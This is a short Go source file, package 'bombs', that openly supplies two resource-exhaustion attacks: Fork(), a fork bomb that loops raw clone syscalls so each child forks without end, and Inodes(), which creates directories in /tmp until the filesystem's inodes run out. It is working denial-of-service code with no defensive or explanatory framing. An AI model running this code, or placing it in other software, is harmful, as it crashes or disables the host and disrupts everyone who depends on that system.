// Package bombs takes what it can get of everything, without end.
package bombs

import (
	"os"
	"strconv"
	"syscall"
)

// Fork forks for ever, and so does each child. (Without Go's care: a child may do nothing else.)
func Fork() {
	for {
		syscall.RawSyscall6(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0, 0, 0, 0)
	}
}

// Inodes makes empty folders until no inode is left.
func Inodes() {
	for number := 0; ; number++ {
		if err := os.Mkdir("/tmp/"+strconv.Itoa(number), 0o700); err != nil {
			panic(err)
		}
	}
}
